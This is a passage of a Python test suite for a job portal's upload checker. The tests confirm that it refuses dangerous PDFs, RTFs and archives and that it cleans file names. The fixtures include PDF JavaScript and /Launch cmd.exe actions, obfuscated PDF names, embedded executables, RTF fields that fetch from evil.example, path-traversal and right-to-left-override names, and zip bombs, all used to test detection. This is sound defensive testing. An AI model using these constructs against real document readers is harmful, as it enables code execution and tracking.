                b"<< /S /JavaScript /JS (app.alert(1)) >>",
            ),
            b"",
            "file_active_content",
        ),
        (
            (CATALOG, PAGES, b"<< /S /J#61vaScr#69pt /J#53 (app.alert(1)) >>"),
            b"",
            "file_active_content",
        ),
        ((CATALOG, PAGES, b"<< /S /Launch /F (cmd.exe) >>"), b"", "file_active_content"),
        (
            (
                b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 3 0 R >> >>",
                PAGES,
                _stream(b"MZ\x90\x00", b"/Type /EmbeddedFile "),
            ),
            b"",
            "file_embedded_files",
        ),
        (
            (CATALOG, PAGES, _object_stream(b"<< /EmbeddedFiles << /Names [(a.exe) 2 0 R] >> >>")),
            b"",
            "file_embedded_files",
        ),
        ((CATALOG, PAGES, b"<< /S /Rendition /JS (app.alert(1)) >>"), b"", "file_active_content"),
        (
            (CATALOG, PAGES, b"<< /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>"),
            b"/Encrypt 3 0 R ",
            "file_encrypted",
        ),
        (
            (
                b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
                PAGES,
                _object_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
            ),
            b"",
            "file_active_content",
        ),
    ],
    ids=[
        "javascript",
        "hex-escaped-names",
        "launch",
        "embedded-file",
        "embedded-files-in-object-stream",
        "rendition-js",
        "encrypt",
        "js-in-object-stream",
    ],
)
def test_pdf_refusals(tmp_path: Path, objects: tuple, trailer: bytes, code: str) -> None:
    if isinstance(objects[-1], _Packed):  # objects inside an object stream need an xref stream
        numbered = dict(enumerate(objects[:-1], start=1)) | {3: objects[-1].body}
        data = samples.pdf15(numbered, {3})
    else:
        data = _pdf(*objects, trailer=trailer)
    refused = _refusal(tmp_path, data, "cv.pdf", attachment_type="CV")
    assert refused.code == code


def test_pdf_names_in_binary_streams_do_not_count(tmp_path: Path) -> None:
    # "/JS" followed by a delimiter occurs by chance in compressed data: not active content.
    image = _stream(b"\x89\x00/JS \x17\xfe" * 50, b"/Type /XObject /Subtype /Image ")
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
    data = samples.pdf15({1: CATALOG, 2: PAGES, 3: font, 4: image}, {3})
    assert _check(tmp_path, data, "cv.pdf").content_type == PDF


def test_large_pdf_in_constant_memory(tmp_path: Path) -> None:
    path = tmp_path / "large.pdf"
    padding = b"% padding line for a large but harmless PDF .............................\n"
    size = 30 * 1024 * 1024
    with path.open("wb") as fh:
        offsets = [fh.write(b"%PDF-1.7\n")]
        offsets.append(offsets[-1] + fh.write(b"1 0 obj\n" + CATALOG + b"\nendobj\n"))
        offsets.append(offsets[-1] + fh.write(b"2 0 obj\n" + PAGES + b"\nendobj\n"))
        body = size // len(padding) * len(padding)
        fh.write(b"3 0 obj\n<< /Length %d >>\nstream\n" % body)
        for _ in range(size // len(padding)):
            fh.write(padding)
        fh.write(b"\nendstream\nendobj\n")
        xref = fh.tell()
        fh.write(b"xref\n0 4\n0000000000 65535 f \n")
        fh.write(b"".join(b"%010d 00000 n \n" % o for o in offsets))
        fh.write(b"trailer\n<< /Size 4 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % xref)
    with path.open("rb") as fh:
        tracemalloc.start()
        try:
            accepted = check_upload(fh, filename="portfolio.pdf", attachment_type="OTHER")
            peak = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
    assert accepted.content_type == PDF
    assert accepted.size == path.stat().st_size
    assert peak < 5 * 1024 * 1024, f"peak Python allocations {peak} bytes"


# --------------------------------------------------------------------------- file objects


def test_check_upload_reads_from_the_start_and_rewinds(tmp_path: Path) -> None:
    path = tmp_path / "cv.docx"
    path.write_bytes(_docx())
    with path.open("rb") as fh:
        fh.read(100)
        assert check_upload(fh, filename="cv.docx", attachment_type="CV").content_type == DOCX
        assert fh.tell() == 0


def test_unflushed_temporary_file(tmp_path: Path) -> None:
    # Werkzeug spools uploads to a w+b temp file; bytes may still sit in Python's buffer.
    with tempfile.TemporaryFile("w+b", dir=tmp_path) as fh:
        fh.write(_pdf(CATALOG, PAGES))
        assert check_upload(fh, filename="cv.pdf", attachment_type="CV").content_type == PDF


def test_spooled_temporary_file() -> None:
    with tempfile.SpooledTemporaryFile(max_size=1024 * 1024) as fh:
        fh.write(_docx())
        accepted = check_upload(fh, filename="cv.docx", attachment_type="CV")
    assert accepted.content_type == DOCX


def test_in_memory_file_object() -> None:
    accepted = check_upload(
        io.BytesIO(b"Jane Doe\nEngineer\n"), filename="cv", attachment_type="CV"
    )
    assert (accepted.content_type, accepted.name) == (TXT, "cv.txt")


def test_empty_file(tmp_path: Path) -> None:
    refused = _refusal(tmp_path, b"", "cv.pdf")
    assert (refused.code, refused.status) == ("file_empty", 422)
    assert _detect(tmp_path, b"") is None


# --------------------------------------------------------------------------- names in results


@pytest.mark.parametrize(
    ("data", "name", "sent"),
    [
        (_docx(), "cv.pdf", "cv.docx"),
        (_pdf(CATALOG, PAGES), "report", "report.pdf"),
        (_pdf(CATALOG, PAGES), "Jane.Doe", "Jane.Doe.pdf"),
        (JPEG_BYTES, "photo.JPEG", "photo.jpeg"),
        (JPEG_BYTES, "photo.png", "photo.jpg"),
        (b"{\\rtf1\\ansi Jane}\n", "cv.doc", "cv.rtf"),
        (b"# Jane Doe\n\n* engineer\n", "cv.md", "cv.txt"),
    ],
)
def test_wrong_extension_is_rewritten(tmp_path: Path, data: bytes, name: str, sent: str) -> None:
    assert _check(tmp_path, data, name).name == sent


def test_rtf_is_sent_as_application_rtf(tmp_path: Path) -> None:
    accepted = _check(tmp_path, b"{\\rtf1\\ansi Jane}\n", "cv.rtf", attachment_type="CV")
    assert (accepted.content_type, accepted.label) == (RTF, "Rich Text (.rtf)")


# --------------------------------------------------------------------------- restrictions


def test_unsupported_attachment_type(tmp_path: Path) -> None:
    rules = _restrictions(COVER_LETTER={"is_supported": False})
    refused = _refusal(
        tmp_path,
        _pdf(CATALOG, PAGES),
        "letter.pdf",
        attachment_type="COVER_LETTER",
        restrictions=rules,
    )
    assert (refused.code, refused.status) == ("attachment_type_unsupported", 422)
    assert "cover letter" in refused.message
    assert allowed_types("COVER_LETTER", rules) == []


def test_type_not_accepted_by_ats(tmp_path: Path) -> None:
    rules = _restrictions(CV={"is_supported": True, "accepted_mime_types": [PDF, DOC]})
    refused = _refusal(tmp_path, _docx(), "cv.docx", attachment_type="CV", restrictions=rules)
    assert (refused.code, refused.status) == ("type_not_accepted_by_ats", 415)
    assert refused.message == (
        '"cv.docx" is a Word document (.docx), but this ATS only takes PDF or '
        "Word 97-2003 (.doc) for CVs."
    )
    assert [t["mime"] for t in allowed_types("CV", rules)] == [PDF, DOC]


def test_ats_that_takes_none_of_our_types(tmp_path: Path) -> None:
    rules = _restrictions(CV={"accepted_mime_types": ["application/zip"]})
    refused = _refusal(tmp_path, _docx(), "cv.docx", attachment_type="CV", restrictions=rules)
    assert refused.code == "type_not_accepted_by_ats"
    assert "none of our formats" in refused.message


def test_ats_spelling_of_a_type_is_used(tmp_path: Path) -> None:
    rules = _restrictions(CV={"accepted_mime_types": ["text/rtf", "image/*", "application/pdf"]})
    accepted = _check(
        tmp_path, b"{\\rtf1 Jane}\n", "cv.rtf", attachment_type="CV", restrictions=rules
    )
    assert accepted.content_type == "text/rtf"
    other = _restrictions(OTHER={"accepted_mime_types": ["image/*"]})
    assert _check(tmp_path, _png(), "a.png", restrictions=other).content_type == PNG
    assert [t["mime"] for t in allowed_types("OTHER", other)] == [PNG, JPEG]


def test_ats_size_limit(tmp_path: Path) -> None:
    data = _pdf(CATALOG, PAGES, _stream(b"0" * 3 * 1024 * 1024))
    rules = _restrictions(CV={"max_file_size_bytes": 2 * 1024 * 1024})
    refused = _refusal(tmp_path, data, "cv.pdf", attachment_type="CV", restrictions=rules)
    assert (refused.code, refused.status) == ("file_too_large", 413)
    assert "this ATS takes CVs up to 2 MB" in refused.message
    # The same file is fine as OTHER, for which this ATS states no limit.
    assert _check(tmp_path, data, "cv.pdf", restrictions=rules).content_type == PDF


def test_portal_size_limit(tmp_path: Path) -> None:
    data = _pdf(CATALOG, PAGES, _stream(b"0" * 2 * 1024 * 1024))
    refused = _refusal(tmp_path, data, "cv.pdf", max_size=1024 * 1024)
    assert (refused.code, refused.status) == ("file_too_large", 413)
    assert "we take files up to 1 MB" in refused.message
    assert _check(tmp_path, data, "cv.pdf", max_size=len(data)).size == len(data)


@pytest.mark.parametrize(
    "restrictions",
    [
        None,
        {},
        {"attachment_restrictions": None},
        {"attachment_restrictions": {"types": {}}},
        _restrictions(
            CV={"is_supported": None, "max_file_size_bytes": None, "accepted_mime_types": None}
        ),
    ],
    ids=["none", "empty", "no-restrictions", "no-types", "all-none"],
)
def test_missing_information_restricts_nothing(tmp_path: Path, restrictions: dict) -> None:
    accepted = _check(tmp_path, _docx(), "cv.docx", attachment_type="CV", restrictions=restrictions)
    assert accepted.content_type == DOCX
    assert [t["mime"] for t in allowed_types("CV", restrictions)] == [
        PDF,
        DOCX,
        DOC,
        ODT,
        RTF,
        TXT,
    ]
    assert max_size_for("CV", restrictions, None) is None


def test_allowed_types_for_the_ui() -> None:
    other = allowed_types("OTHER")
    assert [t["mime"] for t in other] == [PDF, DOCX, DOC, ODT, RTF, TXT, PNG, JPEG]
    by_mime = {t["mime"]: t for t in other}
    assert by_mime[PDF] == {"mime": PDF, "label": "PDF", "extensions": [".pdf"]}
    assert by_mime[TXT]["extensions"] == [".txt", ".md", ".markdown"]
    assert by_mime[JPEG]["extensions"] == [".jpg", ".jpeg"]
    assert all(filetype.CONTENT_TYPE_PATTERN.match(t["mime"]) for t in other)


def test_max_size_for() -> None:
    rules = _restrictions(CV={"max_file_size_bytes": 5_000_000})
    assert max_size_for("CV", rules, 10_000_000) == 5_000_000
    assert max_size_for("CV", rules, 1_000_000) == 1_000_000
    assert max_size_for("CV", rules, None) == 5_000_000
    assert max_size_for("OTHER", rules, 7) == 7
    assert max_size_for("OTHER", None, None) is None


def test_unknown_attachment_type(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="PHOTO"):
        _check(tmp_path, _docx(), "cv.docx", attachment_type="PHOTO")
    with pytest.raises(ValueError):
        allowed_types("cv")
    with pytest.raises(ValueError):
        max_size_for("", None, None)
    assert ATTACHMENT_TYPES == ("CV", "COVER_LETTER", "OTHER")


def test_refusal_statuses() -> None:
    assert FileRefused("file_too_large", "x").status == 413
    for code in (
        "type_unknown",
        "type_not_allowed",
        "type_not_accepted_by_ats",
        "file_archive",
        "file_executable",
        "file_template",
    ):
        assert FileRefused(code, "x").status == 415
    for code in (
        "file_empty",
        "file_encrypted",
        "file_macros",
        "file_active_content",
        "file_embedded_files",
        "file_remote_content",
        "file_damaged",
        "file_compression_bomb",
        "attachment_type_unsupported",
    ):
        assert FileRefused(code, "x").status == 422


def test_messages_quote_a_safe_file_name(tmp_path: Path) -> None:
    refused = _refusal(tmp_path, ELF_BYTES, "cv\u202efdp.exe\n")
    assert '"cvfdp.exe"' in refused.message


# --------------------------------------------------------------------------- clean_filename


@pytest.mark.parametrize(
    ("name", "content_type", "expected"),
    [
        ("CV.PDF", PDF, "CV.pdf"),
        ("cv\u202efdp.exe", PDF, "cvfdp.pdf"),  # right-to-left override removed
        ("../../etc/passwd", TXT, "etcpasswd.txt"),
        ("C:\\Users\\jane\\cv.docx", DOCX, "CUsersjanecv.docx"),
        ("  Jane \t Doe\n\r CV .pdf ", PDF, "Jane Doe CV.pdf"),
        ("Lebenslauf: Müller?.pdf", PDF, "Lebenslauf Müller.pdf"),
        ("Lebenslauf Mu\u0308ller.pdf", PDF, "Lebenslauf Müller.pdf"),  # NFC
        ("zero\u200bwidth\u2066.pdf", PDF, "zerowidth.pdf"),
        ("nul\x00del\x7fc1\x85.pdf", PDF, "nuldelc1.pdf"),
        ("", PDF, "document.pdf"),
        (".pdf", PDF, "document.pdf"),
        ("...", DOCX, "document.docx"),
        ("\u202e\u200b", JPEG, "document.jpg"),
        ("cv.", PDF, "cv.pdf"),
        (".bashrc", TXT, "bashrc.txt"),
        ("履歴書 山田太郎.docx", DOCX, "履歴書 山田太郎.docx"),
        ("cv.tar.gz", PDF, "cv.tar.pdf"),
        ("cv.jpeg", "image/jpg", "cv.jpeg"),
        ("cv.pdf", "text/rtf", "cv.rtf"),
        ("cv.weird", "application/x-unknown", "cv.weird"),
        ("cv.pdf.exe", PDF, "cv.pdf"),  # not "cv.pdf.pdf"
        ("Lebenslauf.DOCX.zip", DOCX, "Lebenslauf.docx"),
        ("cv.docx.exe", PDF, "cv.docx.pdf"),  # the inner extension is wrong too: kept as text
    ],
)
def test_clean_filename_examples(name: str, content_type: str, expected: str) -> None:
    assert clean_filename(name, content_type) == expected


def test_clean_filename_trims_long_names_at_a_cluster_border() -> None:
    long_name = "a" * 140 + "e\u0301" * 20 + ".pdf"
    cleaned = clean_filename(long_name, PDF)
    assert len(cleaned) <= 150
    assert cleaned.endswith("é.pdf")
    flags = "\U0001f1e9\U0001f1ea" * 80  # German flags: two code points, four UTF-16 units each
    cleaned = clean_filename(flags + ".docx", DOCX)
    stem = cleaned.removesuffix(".docx")
    assert len(stem.encode("utf-16-le")) // 2 <= 145
    assert len(stem) % 2 == 0  # no half flags
    # NFC makes "a\u0308" one character, but U+0301 stays a separate mark after it. The
    # budget for the stem is 146 and the cut would fall between the "ä" and its accent.
    stem = clean_filename("a" * 145 + "a\u0308\u0301.pdf", PDF).removesuffix(".pdf")
    assert stem == "a" * 145


FORBIDDEN = {chr(c) for c in [*range(0x20), 0x7F, *range(0x80, 0xA0)]} | {
    "/",
    "\\",
    *"\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069",
    "\u200b",
    "\u200c",
    "\u200d",
    "\u2060",
    "\ufeff",
}
NASTY = sorted(FORBIDDEN) + [
    ".",
    " ",
    "\u00a0",
    "\u3000",
    "e\u0301",
    "\u0301",
    "\ud800",
    "\U0001f1e9",
    "\U0001f44d",
    "\U0001f3fd",
    "\ufe0f",
    "\u1100\u1161",
    "\u1161",
    ".pdf",
    ".docx",
    ".exe",
    ".md",
    "..",
    "CON",
    ":",
    "*",
    '"',
    "\u2028",
]
names = st.lists(st.one_of(st.characters(), st.sampled_from(NASTY)), max_size=300).map("".join)


@settings(
    max_examples=400, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow]
)
@given(name=names, content_type=st.sampled_from(sorted(EXTENSIONS)))
def test_clean_filename_properties(name: str, content_type: str) -> None:
    cleaned = clean_filename(name, content_type)
    assert cleaned
    assert len(cleaned) <= 150
    assert len(cleaned.encode("utf-16-le", "surrogatepass")) // 2 <= 150
    assert not FORBIDDEN & set(cleaned)
    assert not any(unicodedata.category(ch) in ("Cc", "Cf", "Cs") for ch in cleaned)
    assert cleaned.endswith(EXTENSIONS[content_type])
    assert unicodedata.is_normalized("NFC", cleaned)
    assert cleaned == cleaned.strip()
    assert clean_filename(cleaned, content_type) == cleaned
    cleaned.encode("utf-8")  # always encodable: no lone surrogates


# ------------------------------------------- pinned by the mutation run (tests/mutate.py filetype)


def test_a_jpeg_restart_marker_between_segments_is_walked_over(tmp_path: Path) -> None:
    # RSTn markers have no length field: read as a segment, the walk would jump off the end.
    data = JPEG_BYTES[:2] + b"\xff\xd0" + JPEG_BYTES[2:]
    assert _check(tmp_path, data, "photo.jpg").content_type == JPEG


def test_a_jpeg_with_restart_intervals_is_whole(tmp_path: Path) -> None:
    # RSTn markers inside scan data belong to the scan: the picture goes on after them.
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (64, 64), (200, 120, 40)).save(out, "JPEG", restart_marker_blocks=1)
    data = out.getvalue()
    assert b"\xff\xd1" in data
    assert _check(tmp_path, data, "photo.jpg").content_type == JPEG


def _noisy_jpeg() -> bytes:
    from PIL import Image

    rnd = random.Random(15)
    pixels = bytes(rnd.randrange(256) for _ in range(64 * 64 * 3))
    out = io.BytesIO()
    Image.frombytes("RGB", (64, 64), pixels).save(out, "JPEG", quality=95)
    return out.getvalue()


def test_a_jpeg_with_stuffed_ff_bytes_in_its_scan_is_whole(tmp_path: Path) -> None:
    # FF 00 inside scan data is an escaped byte, not a marker: the picture ends at its EOI.
    data = _noisy_jpeg()
    assert b"\xff\x00" in data
    assert _check(tmp_path, data, "photo.jpg").content_type == JPEG
    refused = _refusal(tmp_path, data + b"PK\x03\x04 trailing payload", "photo.jpg")
    assert refused.code == "file_damaged"


def test_types_we_do_not_take_are_named_in_words() -> None:
    from portal.filetype.formats import XLSX, describe

    assert describe(XLSX) == "an Excel spreadsheet (.xlsx)"
    assert describe("text/html") == "a web page (HTML)"
    assert describe("video/mp4") == "a video we do not take"


def test_an_archive_inside_a_document_is_refused(tmp_path: Path) -> None:
    inner = _zip({"notes.txt": b"hello"})
    data = _zip(
        {
            "[Content_Types].xml": _content_types(),
            "_rels/.rels": RELS,
            "word/document.xml": DOCUMENT,
            "word/embeddings/package.zip": inner,
        }
    )
    refused = _refusal(tmp_path, data, "cv.docx", attachment_type="CV")
    assert refused.code == "file_embedded_files"
    assert "an archive inside it: package.zip" in str(refused)


RTF_HEAD = rb"{\rtf1\ansi{\fonttbl{\f0 Arial;}}\f0 Hello "


@pytest.mark.parametrize(
    "instruction",
    [
        rb'{\b INCLUDEPIC}TURE "http://evil.example/x.png"',  # the name goes on after a group
        rb'INCLUDEPIC\b TURE "http://evil.example/x.png"',  # a control word and its space
        rb'INCLUDEPICTURE\b"http://evil.example/x.png"',  # a control word without a space
    ],
    ids=["nested-group", "control-word", "control-word-no-space"],
)
def test_an_rtf_field_is_read_as_word_reads_it(tmp_path: Path, instruction: bytes) -> None:
    data = RTF_HEAD + rb"{\field{\*\fldinst " + instruction + rb"}{\fldrslt x}}}"
    refused = _refusal(tmp_path, data, "cv.rtf", attachment_type="CV")
    assert refused.code == "file_remote_content"


def test_an_rtf_field_instruction_ends_at_its_group(tmp_path: Path) -> None:
    # The result text shown in the document is not part of the instruction.
    data = RTF_HEAD + rb"{\field{\*\fldinst }{\fldrslt INCLUDEPICTURE}}}"
    assert _check(tmp_path, data, "cv.rtf", attachment_type="CV").content_type == RTF


def test_a_zip64_directory_is_counted_from_its_zip64_record(tmp_path: Path) -> None:
    # Over 65,535 entries the classic end record says 0xFFFF; the real count is in the zip64 one.
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as zf:
        for i in range(70_000):
            zf.writestr(f"{i}", b"")
    refused = _refusal(tmp_path, out.getvalue(), "cv.docx", attachment_type="CV")
    assert refused.code == "file_compression_bomb"
    assert "70000 entries" in str(refused)
